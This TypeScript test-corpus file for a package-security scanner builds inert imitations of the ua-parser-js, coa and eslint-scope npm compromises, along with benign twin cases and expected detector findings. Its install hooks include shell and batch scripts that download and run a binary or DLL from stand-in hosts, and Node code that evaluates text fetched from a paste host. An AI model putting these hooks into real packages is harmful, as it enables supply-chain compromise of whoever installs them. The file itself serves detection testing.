/**
 * Imitations, inert and ours, of ua-parser-js 0.7.29, coa 2.0.3 and eslint-scope 3.7.2: a stolen account published versions
 * whose install scripts fetch a program, or code, and run it.
 * https://github.com/faisalman/ua-parser-js/issues/536
 * https://eslint.org/blog/2018/07/postmortem-for-malicious-package-publishes/
 */
import type { SourceTree } from '../../src/rule.ts';
import type { CorpusCase, Imitation } from './update.ts';

const entry = `exports.parse = (text) => ({ name: text.split('/')[0] });\n`;
const before: SourceTree = { 'package.json': { main: 'index.js' }, 'index.js': entry };

const starting = `const { exec, spawn } = require('child_process');

const starters = {
  linux: () => exec('/bin/bash preinstall.sh', (error, output) => console.log(error ? '' : output)),
  win32: () => spawn('cmd.exe', ['/c', 'preinstall.bat']),
};
const start = starters[process.platform];
if (start !== undefined) start();
`;

const withScripts: Imitation = {
  title: 'a script for each system fetches a program and starts it',
  name: 'agent-text',
  incident: {
    what: 'ua-parser-js 0.7.29 and coa 2.0.3: preinstall scripts that fetched a miner and a thief of passwords',
    when: '2021-10-22',
    url: 'https://github.com/faisalman/ua-parser-js/issues/536',
  },
  before,
  after: {
    ...before,
    'package.json': { main: 'index.js', scripts: { preinstall: 'start /B node preinstall.js & node preinstall.js' } },
    'preinstall.js': starting,
    'preinstall.sh': `#!/bin/bash
place=$(curl -s https://where.invalid/json | grep country)
if [ -n "$place" ]; then exit; fi
curl -s https://programs.invalid/first -o first
chmod +x first
./first --quiet &
`,
    'preinstall.bat': '@echo off\ncurl https://programs.invalid/first.dll -o first.dll\nregsvr32.exe -s first.dll\n',
  },
  atLeast: 'block',
  seen: [
    { rule: 'install-script-added', path: 'package.json', pointer: '/scripts/preinstall' },
    { rule: 'child-process-at-load', path: 'preinstall.js', on: '/bin/bash preinstall.sh' },
    { rule: 'child-process-at-load', kind: 'disguised', path: 'preinstall.js', on: 'cmd.exe' },
  ],
  payload: { path: 'preinstall.js', code: starting },
};

const evaluating = `try {
  const https = require('https');
  https.get({ hostname: 'paste.invalid', path: '/raw/none', headers: { Accept: 'text/html' } }, (answer) => {
    answer.setEncoding('utf8');
    answer.on('data', (text) => {
      eval(text);
    });
    answer.on('error', () => {});
  }).on('error', () => {});
} catch (error) {}
`;

const withText: Imitation = {
  title: 'a script evaluates what a host answers',
  name: 'scope-tree',
  incident: {
    what: 'eslint-scope 3.7.2: a postinstall script evaluated a text from a paste host, which read npm tokens',
    when: '2018-07-12',
    url: 'https://eslint.org/blog/2018/07/postmortem-for-malicious-package-publishes/',
  },
  before,
  after: {
    ...before,
    'package.json': { main: 'index.js', scripts: { postinstall: 'node ./lib/build.js' } },
    'lib/build.js': evaluating,
  },
  atLeast: 'block',
  seen: [
    { rule: 'install-script-added', path: 'package.json', pointer: '/scripts/postinstall' },
    { rule: 'network-added', path: 'lib/build.js', on: 'paste.invalid' },
    { rule: 'remote-code-executed', path: 'lib/build.js', on: 'eval(text)' },
  ],
  payload: { path: 'lib/build.js', code: evaluating },
};

export const downloadingHook: CorpusCase = {
  imitations: [withScripts, withText],
  twins: [
    {
      title: 'scripts for its own developers, and a request that a caller asks for',
      name: 'agent-text',
      before,
      after: {
        ...before,
        'package.json': {
          main: 'index.js',
          scripts: { test: 'node test.js', build: 'sh build.sh', prepublishOnly: 'npm run build' },
        },
        'build.sh': '#!/bin/sh\nset -e\nrm -rf dist\nmkdir dist\ncp index.js dist/\n',
        'index.js': `${entry}
const https = require('https');
exports.load = (url, done) =>
  https.get(url, (answer) => {
    let text = '';
    answer.setEncoding('utf8');
    answer.on('data', (part) => {
      text += part;
    });
    answer.on('end', () => done(JSON.parse(text)));
  });
`,
      },
    },
    {
      title: 'a script that tells other package managers to keep out',
      name: 'scope-tree',
      before,
      after: { ...before, 'package.json': { main: 'index.js', scripts: { preinstall: 'only-allow npm' } } },
    },
  ],
};
